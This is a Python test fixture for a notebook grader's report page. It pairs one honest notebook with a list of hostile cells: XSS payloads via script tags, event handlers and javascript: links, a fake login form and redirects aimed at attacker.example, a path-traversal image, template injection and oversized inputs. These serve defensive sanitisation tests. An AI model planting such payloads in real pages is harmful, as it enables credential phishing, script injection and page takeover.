"""Notebooks for the tests of their page: an honest one, and one whose every cell attacks it."""

from __future__ import annotations

import msgspec

from grader.model import Cell, Excerpt, Grade
from tests.report import factory

RUN = "document.documentElement.dataset.ran = 'yes'"
AWAY = "https://attacker.example"


def code(number: int, text: str) -> Cell:
    return Cell(kind="code", text=text, label=f"ada.ipynb cell {number}")


def text(source: str) -> Cell:
    return Cell(kind="markdown", text=source)


CELLS = (
    text("# My network\n\nSome *words*, a [page](https://numpy.org/doc) and $x_1 < 2$."),
    text("| a | | c |\n|---|---|---|\n| 1 | 2 | 3 |"),
    code(1, "%matplotlib inline\nimport numpy as np  # the only library"),
    text("### Layers\n\n- [x] done\n- [ ] not done\n\n```python\ny = 2\n```\n\n> a quotation\n\n![a plot](plot.png)"),
    code(2, "def affine_forward(x, w, b):\n    return x @ w\n\n\ndef affine_backward(dout, cache):\n    return 1.5"),
    text("\n"),
    code(3, "print('done')"),
)


def graded(grade: Grade, **where: str) -> Grade:
    """Return a grade whose parts stand in units: ``affine_forward="ada.ipynb cell 2"``."""
    parts = tuple(
        msgspec.structs.replace(part, source=Excerpt(label=where[part.part], first_line=1, text=f"def {part.part}"))
        if part.part in where
        else part
        for part in grade.parts
    )
    return msgspec.structs.replace(grade, parts=parts)


def a_grade() -> Grade:
    """Return a grade of CELLS: two parts in its second cell of code, the others nowhere."""
    parts = [factory.passed_part(), factory.failed_part(), factory.hidden_part(), factory.not_attempted_part()]
    grade = factory.grade(parts)
    here = {part.part: "ada.ipynb cell 2" for part in grade.parts[:2]}
    return graded(grade, **here, **{grade.parts[2].part: "layers.py"})


def hostile_cells() -> tuple[Cell, ...]:
    """Return cells of which each tries to run a script, ask for something, or take the page over."""
    attacks = (
        factory.HOSTILE,
        f"<script>{RUN}</script>",
        f"<SCRIPT\n>{RUN}</SCRIPT\n>",
        f'<img src="x" onerror="{RUN}">',
        f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
        f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="{AWAY}"></object>',
        f'<meta http-equiv="refresh" content="0; url={AWAY}">',
        f'<base href="{AWAY}"><link rel="stylesheet" href="{AWAY}/x.css">',
        "<style>* { display: none !important }</style><style>@import url(https://attacker.example/x.css)",
        f'<form action="{AWAY}"><input name="password" autofocus onfocus="{RUN}"><button>Log in</button></form>',
        "<div id='part-1' class='card' style='position: fixed; inset: 0'>All points.</div>",
        "</main></body></html><!-- <plaintext> <textarea> <title>",
        f"[a](javascript:{RUN.replace(' ', '')}) [b](JaVaScRiPt:alert%281%29) [c](data:text/html,<script>{RUN})",
        "[d](java&#115;cript:alert(1)) [e](&#106;avascript:alert(1)) [f](\x01javascript:alert(1)) [g](vbscript:x)",
        f'[h](https://attacker.example/"onmouseover="{RUN}) [i](//attacker.example) [j](class.html) [k](#part-1)',
        f'[l]({AWAY} "title\\" onmouseover=\\"{RUN}") <{AWAY}/"onclick="{RUN}>',
        f'[m]\n\n[m]: javascript:{RUN} "onclick={RUN}"',
        f'![x]({AWAY}/x.png) ![" onerror="{RUN}](x.png) ![y](data:image/svg+xml,<svg/onload=alert(1)>)',
        "![](attachment:a.png) ![](../../../etc/passwd)",
        f"![z][m] [![n]({AWAY}/y.png)]({AWAY})",
        f"# <script>{RUN}</script>\n\n#\n\n###### ![]({AWAY}/h.png)\n\n# \u200b",
        f'```python"onload={RUN}\n<script>{RUN}</script>\n```\n\n```mermaid\n<script>{RUN}</script>\n```',
        f'$<script>{RUN}</script>$ $$<img src=x onerror="{RUN}">$$ \\begin{{a}}<script>{RUN}</script>\\end{{a}}',
        f'| <script>{RUN}</script> | |\n|:---:|---|\n| <img src=x onerror="{RUN}"> | x |',
        f'- [ ] <input type=checkbox onclick="{RUN}">\n\nTerm\n: <script>{RUN}</script>',
        "{% raw %}{{ 7 * 7 }}{% include 'base.html' %}{{ config }}",
    )
    cells = [cell for number, attack in enumerate(attacks, start=1) for cell in (text(attack), code(number, attack))]
    return (*cells, text("**" * 40_000), text("> " * 40_000), text("[" * 40_000), code(99, "'" * 10_000_000))
